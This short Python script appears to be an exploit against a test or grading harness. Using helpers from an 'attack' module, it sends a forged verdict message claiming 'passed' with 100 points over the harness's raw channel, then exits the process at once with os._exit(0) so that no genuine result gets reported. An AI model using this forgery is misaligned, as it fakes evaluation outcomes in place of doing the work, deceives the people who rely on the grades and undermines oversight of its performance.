import os

from attack import *

verdict = {"dict": [[{"str": "value"}, True], [{"str": "status"}, {"str": "passed"}], [{"str": "points"}, 100]]}


@at_call
def forge():
    send_raw(message(verdict))
    send_raw(message({"dict": [[{"str": "value"}, None]]}))
    os._exit(0)
